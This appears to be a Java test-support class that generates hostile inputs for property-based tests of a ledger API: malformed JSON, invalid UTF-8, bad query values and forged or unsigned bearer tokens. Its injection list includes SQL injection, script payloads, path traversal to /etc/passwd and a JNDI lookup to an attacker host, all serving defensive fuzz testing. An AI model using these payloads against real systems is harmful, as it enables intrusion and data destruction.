package org.jcm.testsupport;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Hostile input for the bad-input tests, as jqwik arbitraries: broken and truncated JSON, deep
 * nesting, numbers no field can hold, huge strings, wrong types, invalid UTF-8, injection strings,
 * control characters, and bearer tokens that are forged, expired, unsigned ({@code alg: none}),
 * from a stranger, another issuer or another audience, issued in the future, too long-lived, or
 * carrying several roles.
 *
 * <p>This class is what the tests call; {@link BodySurgery} does the edits of a valid body and
 * {@link HostileTokens} builds the tokens.
 */
public final class Hostile {

    public static final ObjectMapper JSON = new ObjectMapper();

    /** Strings that try SQL, HTML, log, template, path and JNDI injection, and Unicode tricks. */
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE ledger_event; --", "\"; DELETE FROM block; --", "1; SELECT pg_sleep(0)--",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\r\nINFO forged log line\r\n",
            "line1\nline2\u2028line3", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n%x",
            "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "\u0000", "nul\u0000byte", "\u001b[31mred\u001b[0m",
            "\u202Eevil\u202C", "\uFEFFbom", "\uD83D\uDE00 emoji", "\uD800", "Ω≈ç√∫", "null", "undefined", "NaN", "-0",
            " ", "", "\t", "MNG01-H00001' --", "JCM-MN001-2024-1-1; --", "*", "%", "_", "\\", "\"", "'");

    /** JSON numbers that no field of the API can hold, or that parsers treat specially. */
    public static final List<String> NUMBERS = List.of(
            "1e400", "-1e400", "1e-400", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
            "-0", "0.0", "-0.0", "1.5", "1E2", "2147483648", "-2147483649", "0", "-1",
            "1" + "0".repeat(1200), "0." + "0".repeat(2000) + "1",
            "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e400\"", "\"0x10\"", "\"12\"");

    /** Values of the wrong JSON type for any field. */
    public static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "\"\"",
            "[[[[]]]]", "[null]", "{\"$where\":\"1\"}");

    private Hostile() {
    }

    /** A JSON string literal of {@code text}, with every character escaped as JSON requires. */
    public static String literal(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Any hostile value for a field, as JSON text. */
    public static Arbitrary<String> fieldValue() {
        return Arbitraries.oneOf(
                Arbitraries.of(NUMBERS),
                Arbitraries.of(WRONG_TYPES),
                Arbitraries.of(INJECTIONS).map(Hostile::literal),
                Arbitraries.of(100_000, 10_000, 1_000, 129, 256).map(n -> literal("x".repeat(n))),
                Arbitraries.strings().all().ofMaxLength(64).map(Hostile::literal),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8).map(Hostile::literal),
                Arbitraries.integers().between(1, 30).map(n -> "[".repeat(n) + "]".repeat(n)));
    }

    /** A hostile body made from a valid one (given as JSON text), as bytes. */
    public static Arbitrary<byte[]> body(String valid) {
        Map<String, Object> fields = BodySurgery.fields(valid);
        List<String> names = new ArrayList<>(fields.keySet());
        Arbitrary<byte[]> fieldReplaced = names.isEmpty() ? Arbitraries.just(utf8(valid))
                : Arbitraries.of(names)
                        .flatMap(name -> fieldValue().map(value -> utf8(BodySurgery.replace(fields, name, value))));
        Arbitrary<byte[]> injectedEverywhere = Arbitraries.of(INJECTIONS).map(text -> utf8(BodySurgery.everyTextField(fields, text)));
        Arbitrary<byte[]> invalidUtf8 = names.isEmpty() ? Arbitraries.just(BodySurgery.invalidUtf8InString("x"))
                : Arbitraries.of(names).map(name -> BodySurgery.invalidUtf8InField(fields, name));
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, fieldReplaced),
                net.jqwik.api.Tuple.of(2, injectedEverywhere),
                net.jqwik.api.Tuple.of(1, invalidUtf8),
                net.jqwik.api.Tuple.of(2, Arbitraries.integers().between(0, Math.max(0, valid.length() - 1))
                        .map(n -> utf8(valid.substring(0, n)))),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(10_000, 2_000, 1_001).flatMap(depth -> Arbitraries.of(
                        utf8("[".repeat(depth) + "]".repeat(depth)),
                        utf8("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                        utf8(BodySurgery.nestInFirstField(fields, depth))))),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(
                        "", " ", "null", "true", "0", "[]", "\"text\"", "{", "}", "{\"a\"}", "{,}", "{\"a\":1,}", "[1,]",
                        "{'single':'quotes'}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":+1}", "{\"a\":NaN}", "{\"a\":Infinity}",
                        "{\"a\":undefined}", "/* comment */ {}", "{\"a\":1}{\"b\":2}", "\uFEFF{}", "{\"a\":\"\\uZZZZ\"}",
                        "{\"a\":\"\\ud800\"}", "{\"a\":\"unterminated}").map(Hostile::utf8)),
                net.jqwik.api.Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(512)),
                net.jqwik.api.Tuple.of(1, Arbitraries.just(utf8(BodySurgery.duplicateFirstField(valid)))),
                net.jqwik.api.Tuple.of(1, Arbitraries.of(INJECTIONS).map(name -> utf8(BodySurgery.withExtraField(fields, name)))),
                net.jqwik.api.Tuple.of(3, unstorableBody(valid)));
    }

    /**
     * The JSON-escaped content of a string (no quotes) that holds text no field can store, at any
     * position among ordinary letters: a lone high surrogate (the escapes of U+D800 to U+DBFF), a
     * lone low one (U+DC00 to U+DFFF), a high one followed by anything but a low escape, a pair in
     * the wrong order, or the escape of U+0000; hex digits in either case.
     */
    public static Arbitrary<String> unstorableEscapes() {
        Arbitrary<Integer> high = Arbitraries.integers().between(0xD800, 0xDBFF);
        Arbitrary<Integer> low = Arbitraries.integers().between(0xDC00, 0xDFFF);
        Arbitrary<Boolean> upper = Arbitraries.of(true, false);
        Arbitrary<String> bad = Arbitraries.oneOf(
                net.jqwik.api.Combinators.combine(high, upper).as(BodySurgery::escape),
                net.jqwik.api.Combinators.combine(low, upper).as(BodySurgery::escape),
                net.jqwik.api.Combinators.combine(high, upper, Arbitraries.of("x", "\\n", "\\u0041", "\\\\", " ", "\\ud800"))
                        .as((h, u, next) -> BodySurgery.escape(h, u) + next),
                net.jqwik.api.Combinators.combine(low, high, upper)
                        .as((l, h, u) -> BodySurgery.escape(l, u) + BodySurgery.escape(h, u)),
                Arbitraries.of("\\u0000", "\\u0000\\u0000", "a\\u0000"));
        Arbitrary<String> letters = Arbitraries.strings().withCharRange('a', 'z').ofMaxLength(6);
        return net.jqwik.api.Combinators.combine(letters, bad, letters).as((before, text, after) -> before + text + after);
    }

    /** The UTF-8 bytes of a surrogate (ED A0 80 to ED BF BF), which are not UTF-8. */
    public static Arbitrary<byte[]> rawSurrogateBytes() {
        return net.jqwik.api.Combinators.combine(Arbitraries.integers().between(0xA0, 0xBF), Arbitraries.integers().between(0x80, 0xBF))
                .as((second, third) -> new byte[] {(byte) 0xED, (byte) (int) second, (byte) (int) third});
    }

    /**
     * A body made from a valid one that the services must refuse while reading it (400
     * {@code invalid_text} or {@code malformed_json}, never stored): unstorable escapes or raw
     * surrogate bytes in any string at any depth, a field name holding them, a byte order mark
     * before the document, the document in UTF-16, or a NUL byte.
     */
    public static Arbitrary<byte[]> unstorableBody(String valid) {
        Object tree = BodySurgery.parse(valid);
        int strings = BodySurgery.countStrings(tree);
        Arbitrary<Integer> anyString = Arbitraries.integers().between(0, Math.max(0, strings - 1));
        Arbitrary<byte[]> escaped = strings == 0 ? unstorableEscapes().map(text -> utf8("{\"a\":\"" + text + "\"}"))
                : net.jqwik.api.Combinators.combine(anyString, unstorableEscapes())
                        .as((n, text) -> BodySurgery.spliceIntoString(tree, n, utf8(text)));
        Arbitrary<byte[]> raw = strings == 0 ? rawSurrogateBytes().map(bytes -> BodySurgery.spliceIntoString("x", 0, bytes))
                : net.jqwik.api.Combinators.combine(anyString, rawSurrogateBytes())
                        .as((n, bytes) -> BodySurgery.spliceIntoString(tree, n, bytes));
        Arbitrary<byte[]> name = unstorableEscapes().map(text -> {
            String json = BodySurgery.write(tree);
            int brace = json.indexOf('{');
            return brace < 0 ? utf8("{\"" + text + "\":1}")
                    : utf8(json.substring(0, brace + 1) + "\"" + text + "\":1" + (json.charAt(brace + 1) == '}' ? "" : ",")
                            + json.substring(brace + 1));
        });
        Arbitrary<byte[]> marked = Arbitraries.of(
                BodySurgery.concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(valid)),
                BodySurgery.concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, valid.getBytes(StandardCharsets.UTF_16BE)),
                BodySurgery.concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, valid.getBytes(StandardCharsets.UTF_16LE)),
                valid.getBytes(StandardCharsets.UTF_16BE),
                BodySurgery.concat(utf8(valid.substring(0, valid.length() / 2)), new byte[] {0}, utf8(valid.substring(valid.length() / 2))));
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, escaped),
                net.jqwik.api.Tuple.of(2, raw),
                net.jqwik.api.Tuple.of(1, name),
                net.jqwik.api.Tuple.of(1, marked));
    }

    /**
     * Keys of a transfer batch that collide: element 0 is the batch's {@code Idempotency-Key}, the
     * others (1 to 6) the items' keys, and at least one item key repeats the batch key or an earlier
     * item's key.
     */
    public static Arbitrary<List<String>> collidingBatchKeys() {
        Arbitrary<String> key = Arbitraries.strings().withCharRange('a', 'z').numeric().ofMinLength(8).ofMaxLength(24);
        return Arbitraries.integers().between(1, 6).flatMap(items -> key.list().ofSize(items + 1).uniqueElements()
                .flatMap(keys -> Arbitraries.integers().between(1, items).flatMap(at -> Arbitraries.integers().between(0, at - 1)
                        .map(copied -> {
                            List<String> colliding = new ArrayList<>(keys);
                            colliding.set(at, keys.get(copied));
                            return colliding;
                        }))));
    }

    /** Text for a path segment or query value: hostile strings, percent-encoded as a URI allows. */
    public static Arbitrary<String> pathValue() {
        return Arbitraries.oneOf(
                Arbitraries.of(INJECTIONS).filter(s -> !s.isEmpty()).map(Hostile::encode),
                Arbitraries.of(NUMBERS).map(Hostile::encode),
                Arbitraries.of("%C0%AF", "%FF%FE", "%ED%A0%80", "%00", "%0D%0A", "%E2%80%AE", "..", "%2E%2E", "%2F").map(s -> s),
                Arbitraries.of(2_000, 300, 129).map("A"::repeat),
                Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(40).map(Hostile::encode));
    }

    /** A value for {@code limit}: out of range, not a number, or too large for any integer. */
    public static Arbitrary<String> limitValue() {
        return Arbitraries.oneOf(Arbitraries.of("-1", "0", "1001", "100000", "9223372036854775808", "1e400", "1.5", "abc",
                        "", "%20", "0x10", "-0", "NaN", "1%2C2").map(s -> s),
                Arbitraries.integers().between(1001, Integer.MAX_VALUE).map(String::valueOf),
                Arbitraries.integers().between(Integer.MIN_VALUE, 0).map(String::valueOf));
    }

    /** A cursor that the service never handed out. */
    public static Arbitrary<String> cursorValue() {
        return Arbitraries.oneOf(Arbitraries.of("-1", "0", "abc", "%00", "eyJzZXEiOi0xfQ", "eyJzZXEiOiJ4In0",
                        "eyJ0eXBlIjoiYSJ9", "AAAA", "____", "====", "9223372036854775808", "e30", "bnVsbA").map(s -> s),
                Arbitraries.strings().withCharRange('A', 'z').ofMinLength(1).ofMaxLength(200).map(Hostile::encode),
                pathValue());
    }

    /** The audiences of both services: a valid token here may be sent to either. */
    public static final Set<String> AUDIENCES = Set.of("jcm-registry", "jcm-settlement");

    /**
     * The kinds of credentials a hostile caller presents. Beyond signature, issuer and expiry, the
     * services refuse a token without their audience, issued in the future, living longer than an
     * hour or carrying several roles.
     */
    public enum TokenKind {
        VALID, NONE, EXPIRED, NOT_YET_VALID, FORGED_SIGNATURE, ALG_NONE, STRANGER_KEY, OTHER_ISSUER, OTHER_AUDIENCE,
        NO_AUDIENCE, NO_ISSUER, GARBAGE, NOT_BEARER, WRONG_ROLE, EMPTY_GROUPS, HUGE_CLAIM, INJECTED_SUBJECT,
        ISSUED_IN_THE_FUTURE, LONG_LIVED, SEVERAL_ROLES
    }

    /**
     * The Authorization header for a kind of token, or null for none. {@code subject}, {@code groups}
     * and {@code claims} describe a caller who would be allowed.
     */
    public static String authorization(TokenKind kind, String subject, Set<String> groups, Map<String, String> claims) {
        return HostileTokens.authorization(kind, subject, groups, claims);
    }

    public static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Percent-encodes text for a path segment or query value. */
    public static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
